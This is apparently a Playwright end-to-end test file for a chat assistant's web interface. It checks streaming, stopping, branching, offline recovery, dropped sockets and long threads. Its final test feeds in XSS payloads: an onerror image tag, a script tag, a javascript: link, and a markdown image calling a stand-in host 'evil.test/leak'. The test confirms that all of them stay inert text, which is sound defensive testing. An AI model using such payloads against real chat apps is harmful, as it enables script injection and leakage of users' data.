// Talking: streaming, tools, stopping, branches, a bad network, long threads, hostile text.
import { expect, say, signIn, test } from "./world";

test("an answer streams in, with its tool call, and titles the conversation", async ({ page }) => {
  await signIn(page);
  await say(page, "population tool please");
  await page.waitForURL(/\/c\//);
  await expect(page.getByText("Read the page")).toBeVisible();
  await expect(page.getByRole("cell", { name: "8.06" })).toBeVisible();
  await expect(page.getByRole("button", { name: "Regenerate" })).toBeVisible();
  await expect(page.locator(".katex").first()).toBeVisible();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("population tool please");
});

test("a withdrawn turn is not shown twice", async ({ page }) => {
  await signIn(page);
  await say(page, "population tool withdraw");
  await expect(page.getByText("Half an ans")).toBeVisible();
  await expect(page.getByText("Half an ans")).toHaveCount(0);
  await expect(page.getByText("Growth has slowed")).toBeVisible({ timeout: 20_000 });
});

test("a reload in mid-answer goes on where it was", async ({ page, mock }) => {
  await signIn(page);
  await mock.set({ speed: 60 });
  await say(page, "population tool please");
  await expect(page.getByText("How it is worked out")).toBeVisible({ timeout: 20_000 });
  await page.reload();
  await expect(page.getByText("How it is worked out")).toHaveCount(1);
  await expect(page.getByText("Growth has slowed")).toBeVisible({ timeout: 30_000 });
  await expect(page.getByText("How it is worked out")).toHaveCount(1);
});

test("an answer can be stopped and asked for again", async ({ page }) => {
  await signIn(page);
  await mock_slow(page);
  await say(page, "a long story");
  await page.getByRole("button", { name: "Stop" }).click();
  await expect(page.getByText("You stopped this answer.")).toBeVisible();
  await page.getByRole("button", { name: "Regenerate" }).click();
  await page.getByRole("button", { name: "Stop" }).click();
  await expect(page.getByText("2/2")).toBeVisible();
  await page.getByRole("button", { name: "Previous version" }).click();
  await expect(page.getByText("1/2")).toBeVisible();
});

async function mock_slow(page: import("@playwright/test").Page): Promise<void> {
  await page.request.post("/__mock", { data: { speed: 40 } });
}

test("editing a message opens a branch, and both are kept", async ({ page, mock }) => {
  await signIn(page, `/c/${await mock.conversation("Trip")}`);
  const mine = page.getByRole("article", { name: "You" });
  await mine.hover();
  await mine.getByRole("button", { name: "Edit message" }).click();
  await page.getByRole("textbox", { name: "Edit your message" }).fill("Hello again");
  await page.getByRole("button", { name: "Send" }).first().click();
  await expect(page.getByText("You said: Hello again.")).toBeVisible();
  await expect(page.getByText("2/2")).toBeVisible();
  await page.getByRole("button", { name: "Previous version" }).click();
  await expect(page.getByText("Hello!", { exact: true })).toBeVisible();
});

test("a failed answer says why and can be retried", async ({ page }) => {
  await signIn(page);
  await say(page, "please fail");
  await expect(page.getByText("The model could not be reached.")).toBeVisible();
  await expect(page.getByRole("button", { name: "Retry" })).toBeVisible();
});

test("a lost answer to sending does not double the message", async ({ page, mock }) => {
  await signIn(page, `/c/${await mock.conversation("Trip")}`);
  const before = (await mock.set({ lose: 2 })).messages;
  await say(page, "only once");
  await expect(page.getByText("You said: only once.")).toBeVisible({ timeout: 20_000 });
  expect((await mock.set()).messages).toBe(before + 2);
  await expect(page.getByText("only once", { exact: true })).toHaveCount(2);
});

test("a message written while the server is away is sent when it is back, also over a reload", async ({ page, mock, context }) => {
  await signIn(page, `/c/${await mock.conversation("Trip")}`);
  await expect(page.getByText("Hello!", { exact: true })).toBeVisible();
  await context.setOffline(true);
  await expect(page.getByText("You are offline.")).toBeVisible();
  await say(page, "see you later");
  await expect(page.getByText("Waiting for the network.")).toBeVisible();
  await context.setOffline(false);
  await page.reload();
  await expect(page.getByText("You said: see you later.")).toBeVisible({ timeout: 20_000 });
});

test("without a socket the answer still arrives", async ({ page, mock }) => {
  await mock.set({ no_socket: true });
  await signIn(page);
  await say(page, "population tool please");
  await expect(page.getByText("Growth has slowed")).toBeVisible({ timeout: 30_000 });
});

test("an answer survives dropped sockets without a letter lost or doubled", async ({ page, mock }) => {
  await signIn(page);
  await mock.set({ speed: 80 });
  await say(page, "population tool please");
  for (let drop = 0; drop < 4; drop += 1) {
    await page.waitForTimeout(900);
    await mock.set({ drop_sockets: true });
  }
  await expect(page.getByText("Growth has slowed: it was 1.4 % a year around 2000 and is 0.9 % now.")).toBeVisible({ timeout: 30_000 });
  await expect(page.getByText("How it is worked out")).toHaveCount(1);
});

test("what was typed survives a reload", async ({ page, mock }) => {
  await signIn(page, `/c/${await mock.conversation("Trip")}`);
  await page.getByRole("textbox", { name: "Message", exact: true }).fill("half a thought");
  await page.reload();
  await expect(page.getByRole("textbox", { name: "Message", exact: true })).toHaveValue("half a thought");
});

test("a thread of 2,000 messages opens at its end, draws few, and scrolls to its beginning", async ({ page, mock }) => {
  await signIn(page, `/c/${await mock.conversation("A very long")}`);
  await expect(page.getByText("Question 1000", { exact: true })).toBeInViewport();
  expect(await page.getByRole("article").count()).toBeLessThan(40);
  const thread = page.getByRole("region", { name: "Conversation" });
  const reading = page.getByText("Question 975", { exact: true });
  await expect(async () => {
    await thread.evaluate((node) => node.scrollBy(0, -1200));
    await expect(reading).toBeVisible({ timeout: 300 });
  }).toPass({ timeout: 20_000 });
  await expect(page.getByRole("button", { name: "Jump to latest" })).toBeVisible();
  await page.getByRole("button", { name: "Jump to latest" }).click();
  await expect(page.getByText("Question 1000", { exact: true })).toBeInViewport();
});

test("hostile text in an answer stays text", async ({ page }) => {
  await signIn(page);
  await say(page, "xss <img src=x onerror=window.__xss=1> ![a](https://evil.test/leak?d=1) [x](javascript:window.__xss=1) <script>window.__xss=1</script>");
  await expect(page.getByRole("button", { name: "Regenerate" })).toBeVisible();
  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
  await expect(page.locator("article img")).toHaveCount(0);
});
